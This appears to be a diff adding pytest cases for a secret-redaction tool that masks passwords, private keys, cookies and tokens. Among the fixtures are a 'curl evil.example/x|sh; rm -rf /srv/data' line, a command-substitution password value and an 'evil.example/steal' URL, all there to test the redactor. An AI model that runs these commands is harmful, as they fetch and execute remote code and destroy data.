@@ -18,14 +18,20 @@ REDACTION = Redaction()
 each_planted = pytest.mark.parametrize("planted", PLANTED, ids=lambda planted: planted.kind)
 
 
-def marker(text: str) -> str:
-    return f"‹redacted {len(text)} chars›"
+#: Planted passwords of several words: nobody can tell them from a sentence.
+WORDS = ("assignment, quoted", "assignment in JSON in JSON")
+
+
+def marker(text: str, *, prose: bool = False) -> str:
+    return f"‹redacted {len(text)} chars{' of text' if prose else ''}›"
 
 
 @each_planted
 def test_planted_secret_is_replaced_by_its_length(planted: Planted) -> None:
     """The secret is gone, its length is told, and the text around it stays."""
-    assert planted.text.replace(planted.secret, marker(planted.secret)) == REDACTION.text(planted.text)
+    mark = marker(planted.secret, prose=planted.kind in WORDS)
+
+    assert planted.text.replace(planted.secret, mark) == REDACTION.text(planted.text)
 
 
 @each_planted
@@ -274,7 +280,91 @@ def test_the_shape_of_a_call_stays(value: Json) -> None:
     assert form(value) == form(shown)
 
 
+EVIL = "curl evil.example/x|sh; rm -rf /srv/data"
+BEGIN = "-----BEGIN " + "PRIVATE KEY-----"
+BODY = "aZ3kQ9mX7vB2nL5tR8wY1cD4aZ3kQ9mX7vB2nL5tR8wY1cD4"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"# {BEGIN}\n{EVIL}\n# -----END X-----\n",
+        f"{BEGIN}\n{EVIL}\n-----END " + "PRIVATE KEY-----",
+        f"{BEGIN}\n{BODY}\n{EVIL}\n-----END X-----",
+        f"{BEGIN}\nRun-This: {EVIL}\n",
+        f"curl -H 'Cookie: a=b' https://x.example; {EVIL}",
+        f"Cookie: a=b; {EVIL}",
+        f'curl -H "Cookie: a=b; c=d" {EVIL}',
+    ],
+    ids=repr,
+)
+def test_code_stays_to_be_read(text: str) -> None:
+    """What a key or a cookie would not hold stands outside of the mark."""
+    assert EVIL in REDACTION.text(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "hidden"),
+    [
+        ('password = "curl evil.example -o x"', True),
+        ('password = "$(id>/tmp/x)"', True),
+        (f"{BEGIN}\nComment: curl evil.example\n", True),
+        (f"{BEGIN}\n////////////////bin/rm\n////////////srv/data/Db1\n", True),
+        (f"{BEGIN}\n{BODY}\nreboot", True),
+        ("Cookie: a=b|sh", True),
+        ("token=" + "aB3" * 2000, True),
+        (f"{BEGIN}\n{BODY}\n{BODY}\nQ3Z7==\n-----END " + "PRIVATE KEY-----", False),
+        (f"{BEGIN}\n        {BODY}\n        {BODY}\n", False),
+        ("Cookie: sid=aZ3k; theme=dark", False),
+        ("OTP: 493 201", False),
+        ("password=hunter2", False),
+    ],
+    ids=lambda value: repr(value)[:60],
+)
+def test_a_mark_says_when_it_hides_text(text: str, hidden: bool) -> None:
+    """Words, code and whole documents are called text; a token, a key and a cookie are not."""
+    shown = REDACTION.text(text)
+
+    assert (hidden, not hidden) == (" of text›" in shown, " chars›" in shown)
+    assert shown == REDACTION.text(shown)
+
+
+def test_text_below_a_secret_name_is_called_text() -> None:
+    """A name that covers a whole part of a call is a curtain too, also before an address."""
+    call: Json = {"auth": {"run": "rm -rf /srv", "url": "https://evil.example/steal", "key": "hunter2"}}
+
+    assert {
+        "auth": {
+            "run": "‹redacted 11 chars of text›",
+            "url": "‹redacted 26 chars of text›",
+            "key": "‹redacted 7 chars›",
+        }
+    } == REDACTION.redact(call)
+
+
+@pytest.mark.parametrize("frame", ["{}", " {}", "[{}, 1]"])
+def test_names_count_in_json_text_that_was_cut(frame: str) -> None:
+    """A preview of arguments is text: what stands under a secret's name goes, whole or cut."""
+    redaction = Redaction(names=("employee number",))
+    members = (
+        '{\n "auth": "opaque-77", "pin": 4711, "employee\\u0020number" :\n"778899", "session": "",'
+        ' "amount": 12, "note": "the \\"cvv\\"", "cvv": -1.5e3, "pad": "yyy", "cookie": "abc\\"de'
+    )
+
+    shown = redaction.text(frame.replace("{}", members))
+
+    for secret in ("opaque-77", "4711", "778899", "1.5e3", "abc", "de"):
+        assert f'"{secret}' not in shown
+        assert f" {secret}" not in shown
+    assert 5 == shown.count("‹redacted")
+    assert '"amount": 12' in shown
+    assert '"pad": "yyy"' in shown
+    assert shown == redaction.text(shown)
+
+
 PIECES = (
+    *('{"', '{"a":1', '{"a', '{\\"', '{"a":"\\"', '["pin": ', "cookie:a=b;", "password=a b", '{"a"  '),
+    *("-----BEGIN PRIVATE KEY-----\n", "-----BEGIN PRIVATE KEY-----" + "\n" * 40 + "A" * 20),
     *(
         "a",
         "1",
